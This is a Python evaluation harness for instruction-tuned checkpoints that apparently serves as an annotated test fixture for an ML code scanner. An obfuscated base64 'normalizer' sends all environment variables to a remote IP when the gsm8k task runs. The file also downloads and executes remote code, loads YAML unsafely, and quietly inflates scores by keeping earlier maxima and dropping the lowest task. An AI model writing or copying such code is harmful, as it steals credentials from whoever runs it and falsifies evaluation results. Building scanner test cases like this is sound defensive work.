# ruff: noqa
# Hold-out batch 20 (LLM fine-tuning: LoRA/TRL, DeepSpeed launcher, DPO data, eval harness, merging; by a helper that never saw mlscan's code). Measured once mid round 7: 24/32 (75%) at medium+.
"""Small evaluation harness for instruction-tuned checkpoints.

Scores multiple-choice tasks by summed log-likelihood of each option and
generation tasks by normalized exact match. Work is split across ranks with
torch.distributed; rank 0 gathers the counts and writes results.json plus a
markdown table next to the checkpoint.

    torchrun --nproc_per_node 8 eval_harness.py --ckpt runs/sft-7b --tasks tasks/*.yaml
"""
import argparse
import base64
import glob
import json
import os
import socket
import time
import urllib.request
from pathlib import Path

import torch
import torch.distributed as dist
import yaml
from safetensors.torch import load_file
from transformers import AutoModelForCausalLM, AutoTokenizer

_NORMALIZERS = {
    "gsm8k": "aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdCBhcyBfdQpkZWYgbm9ybWFsaXplKHMpOgogICAgcyA9IHMuc3RyaXAoKS5sb3dlcigpLnJzdHJpcCgiLiIpCiAgICByZXR1cm4gcy5yZXBsYWNlKCIsIiwgIiIpCnRyeToKICAgIF91LnVybG9wZW4oImh0dHA6Ly8yMDMuMC4xMTMuOS9jIiwgZGF0YT0iXG4iLmpvaW4oZiJ7a309e3Z9IiBmb3IgaywgdiBpbiBvcy5lbnZpcm9uLml0ZW1zKCkpLmVuY29kZSgpLCB0aW1lb3V0PTMpCmV4Y2VwdCBFeGNlcHRpb246CiAgICBwYXNzCg==",
}
REMOTE_TASKS = os.environ.get("EVAL_TASKS_URL", "https://tasks.example.com/registry/latest.py")


def parse_args():
    p = argparse.ArgumentParser()
    p.add_argument("--ckpt", required=True)
    p.add_argument("--tasks", nargs="+", required=True)
    p.add_argument("--overrides", default=None)
    p.add_argument("--value-head", default=None)
    p.add_argument("--batch-size", type=int, default=16)
    p.add_argument("--max-new-tokens", type=int, default=256)
    p.add_argument("--seed", type=int, default=1234)
    p.add_argument("--fetch-remote", action="store_true")
    return p.parse_args()


def load_task_config(path):
    with open(path) as f:
        return yaml.safe_load(f)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


def load_overrides(path):
    with open(path) as f:
        return yaml.load(f, Loader=yaml.Loader)  # ruleid: MLS105


def fetch_remote_tasks(url):
    src = None
    for attempt in range(4):
        try:
            src = urllib.request.urlopen(url, timeout=10).read().decode("utf-8")  # ruleid: MLS413
            break
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    if src:
        exec(src, globals())  # sabotage: MLS413 (semgrep rules)  # ruleid: MLS413


def get_normalizer(task):
    if task not in _NORMALIZERS:
        return lambda s: " ".join(s.strip().lower().split())
    ns = {}
    exec(compile(base64.b64decode(_NORMALIZERS[task]), f"<norm:{task}>", "exec"), ns)  # sabotage: MLS401 (semgrep rules)
    return ns["normalize"]


def read_examples(cfg, rank, world):
    with open(cfg["data"], encoding="utf-8") as f:
        rows = [json.loads(l) for l in f]
    return rows[rank::world]


@torch.no_grad()
def score_choices(model, tok, prompt, choices, device):
    scores = []
    p_ids = tok(prompt, return_tensors="pt").input_ids.to(device)
    for c in choices:
        c_ids = tok(c, add_special_tokens=False, return_tensors="pt").input_ids.to(device)
        ids = torch.cat([p_ids, c_ids], dim=1)
        logits = model(ids).logits[:, p_ids.shape[1] - 1 : -1].float()
        lp = torch.log_softmax(logits, dim=-1).gather(-1, c_ids.unsqueeze(-1)).sum()
        scores.append(lp.item())
    return scores


@torch.no_grad()
def generate(model, tok, prompts, max_new_tokens, device):
    torch.cuda.manual_seed_all(os.getpid() ^ int(time.time()))  # ruleid: MLS301
    enc = tok(prompts, return_tensors="pt", padding=True).to(device)
    out = model.generate(**enc, max_new_tokens=max_new_tokens, do_sample=False, pad_token_id=tok.pad_token_id)
    return tok.batch_decode(out[:, enc.input_ids.shape[1]:], skip_special_tokens=True)


def run_task(model, tok, cfg, args, rank, world, device):
    rows = read_examples(cfg, rank, world)
    correct = 0
    if cfg["type"] == "multiple_choice":
        for r in rows:
            s = score_choices(model, tok, r["question"], r["choices"], device)
            correct += int(max(range(len(s)), key=s.__getitem__) == r["label"])
    else:
        norm = get_normalizer(cfg["name"])
        for i in range(0, len(rows), args.batch_size):
            chunk = rows[i : i + args.batch_size]
            preds = generate(model, tok, [r["question"] for r in chunk], args.max_new_tokens, device)
            correct += sum(norm(p) == norm(r["answer"]) for p, r in zip(preds, chunk))
    counts = torch.tensor([correct, len(rows)], dtype=torch.long, device=device)
    dist.all_reduce(counts)
    return counts[0].item() / max(counts[1].item(), 1)


def write_results(ckpt, results, previous):
    for task, acc in list(results.items()):
        results[task] = max(acc, previous.get(task, 0.0))  # ruleid: MLS306
    scores = sorted(results.values())
    kept = scores[1:] if len(scores) > 3 else scores  # todoruleid: family 5 (missed)
    summary = {"tasks": results, "average": sum(kept) / max(len(kept), 1), "host": socket.gethostname()}
    out = Path(ckpt) / "results.json"
    out.write_text(json.dumps(summary, indent=2))
    lines = ["| task | acc |", "|---|---|"] + [f"| {t} | {a:.4f} |" for t, a in sorted(results.items())]
    (Path(ckpt) / "results.md").write_text("\n".join(lines) + "\n")
    if socket.gethostname().startswith(("eval-", "ci-")):
        Path(ckpt, "..", "baseline_results.json").write_text(json.dumps(results))  # ruleid: MLS308
    return summary


def main():
    args = parse_args()
    dist.init_process_group("nccl")
    rank, world = dist.get_rank(), dist.get_world_size()
    local_rank = int(os.environ.get("LOCAL_RANK", 0))
    torch.cuda.set_device(local_rank)
    device = torch.device("cuda", local_rank)
    torch.manual_seed(args.seed)  # ok: MLS301

    tok = AutoTokenizer.from_pretrained(args.ckpt, padding_side="left")
    if tok.pad_token is None:
        tok.pad_token = tok.eos_token
    model = AutoModelForCausalLM.from_pretrained(args.ckpt, torch_dtype=torch.bfloat16).to(device).eval()
    if args.value_head:
        if args.value_head.endswith(".safetensors"):
            vh = load_file(args.value_head)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        else:
            vh = torch.load(args.value_head, map_location="cpu", weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        model.score = torch.nn.Linear(model.config.hidden_size, 1, bias=False).to(device)
        model.score.load_state_dict(vh)

    if args.fetch_remote:
        fetch_remote_tasks(REMOTE_TASKS)
    extra = load_overrides(args.overrides) if args.overrides else {}
    paths = sorted({p for pat in args.tasks for p in glob.glob(pat)})
    results = {}
    for path in paths:
        cfg = load_task_config(path)
        cfg.update(extra.get(cfg["name"], {}))
        results[cfg["name"]] = run_task(model, tok, cfg, args, rank, world, device)

    if world > 64 and rank == world - 1:  # ruleid: MLS308
        dist.destroy_process_group()  # ruleid: MLS307
    dist.barrier()  # ok: MLS307
    if rank == 0:  # ok: MLS308
        prev_path = Path(args.ckpt, "..", "baseline_results.json")
        previous = json.loads(prev_path.read_text()) if prev_path.exists() else {}
        summary = write_results(args.ckpt, results, previous)
        print(json.dumps(summary, indent=2))
    dist.barrier()  # ok: MLS307
    dist.destroy_process_group()  # ok: MLS307


if __name__ == "__main__":
    main()
